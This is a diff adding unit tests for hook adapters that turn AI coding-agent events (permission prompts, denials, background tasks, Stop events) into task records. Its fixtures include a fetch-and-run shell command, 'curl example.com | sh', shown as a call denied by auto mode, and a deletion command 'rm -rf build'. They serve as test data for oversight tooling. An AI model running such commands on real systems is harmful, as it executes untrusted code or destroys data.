@@ -90,6 +90,60 @@ describe('hook adapters: payload tables', () => {
     assert.deepEqual(mcp[1], { kind: 'step', taskId: TURN, step: 'github/create_issue' });
   });
 
+  it('claude-code: the terminal’s generic permission notification keeps the specific request it follows', () => {
+    const waiting = [{ id: TURN, state: 'paused' as const, needsInput: { since: AT, kind: 'permission' as const, message: 'Bash(rm -rf build)' } }];
+    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', prompt_id: 'p1', notification_type: 'permission_prompt', message: 'Claude needs your permission to use Bash' }, waiting), []);
+  });
+
+  it('claude-code: a background session that needs input waits for the user', () => {
+    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', prompt_id: 'p1', notification_type: 'agent_needs_input', message: 'Claude is waiting for your input' }, [{ id: TURN }]), [
+      { kind: 'needsInput', taskId: TURN, request: { kind: 'question', message: 'Claude is waiting for your input' } },
+    ]);
+    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Notification', prompt_id: 'p1', notification_type: 'agent_completed', message: 'done' }, [{ id: TURN }]), []);
+  });
+
+  it('claude-code: a call refused by auto mode is on the record and the turn goes on', () => {
+    assert.deepEqual(
+      mapped('claude-code', { hook_event_name: 'PermissionDenied', prompt_id: 'p1', tool_name: 'Bash', tool_input: { command: 'curl example.com | sh' }, reason: 'downloads and runs code' }, [{ id: TURN }]),
+      [
+        { kind: 'resume', taskId: TURN },
+        { kind: 'log', taskId: TURN, message: 'Bash(curl example.com | sh) · denied by auto mode: downloads and runs code', level: 'warn' },
+      ],
+    );
+  });
+
+  it('claude-code: a Stop with running background tasks ends the turn and keeps the work as active subtasks until a later Stop', () => {
+    const background = [
+      { id: 'b1', type: 'shell', status: 'running', command: 'npm run dev' },
+      { id: 'b2', type: 'subagent', status: 'completed', description: 'already over' },
+    ];
+    const bg1 = `claude-code:${SESSION}:bg-b1`;
+    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Stop', prompt_id: 'p1', last_assistant_message: 'Started the server.', background_tasks: background }, [{ id: TURN }]), [
+      { kind: 'startTask', taskId: bg1, title: 'Background: npm run dev', input: { backgroundTask: 'b1', type: 'shell' }, triggerSource: 'claude-code', parentId: TURN },
+      { kind: 'finish', taskId: TURN, to: 'done', result: { message: 'Started the server.' } },
+    ]);
+    // The next turn's Stop no longer lists it: the background work is over.
+    const next = `claude-code:${SESSION}:p2`;
+    assert.deepEqual(
+      mapped('claude-code', { hook_event_name: 'Stop', prompt_id: 'p2', background_tasks: [] }, [{ id: bg1, parentId: TURN, input: { backgroundTask: 'b1' } }, { id: next }]),
+      [
+        { kind: 'finish', taskId: bg1, to: 'done' },
+        { kind: 'finish', taskId: next, to: 'done' },
+      ],
+    );
+    // Older versions send no list: nothing is said about background work.
+    assert.deepEqual(mapped('claude-code', { hook_event_name: 'Stop', prompt_id: 'p2' }, [{ id: bg1, parentId: TURN, input: { backgroundTask: 'b1' } }, { id: next }]), [
+      { kind: 'finish', taskId: next, to: 'done' },
+    ]);
+  });
+
+  it('codex: a permission request before its own auto-review is on the record, not a "needs you"', () => {
+    const turn = `codex:${SESSION}:t1`;
+    assert.deepEqual(mapped('codex', { hook_event_name: 'PermissionRequest', turn_id: 't1', tool_name: 'Bash', tool_input: { command: 'rm -rf build' } }, [{ id: turn }]), [
+      { kind: 'log', taskId: turn, message: 'permission requested: Bash(rm -rf build)', level: 'info' },
+    ]);
+  });
+
   it('gemini-cli: a tool permission notification pauses the turn', () => {
     const turn = `gemini-cli:${SESSION}:t1`;
     assert.deepEqual(mapped('gemini-cli', { hook_event_name: 'Notification', notification_type: 'ToolPermission', message: 'Allow run_shell_command?' }, [{ id: turn }]), [
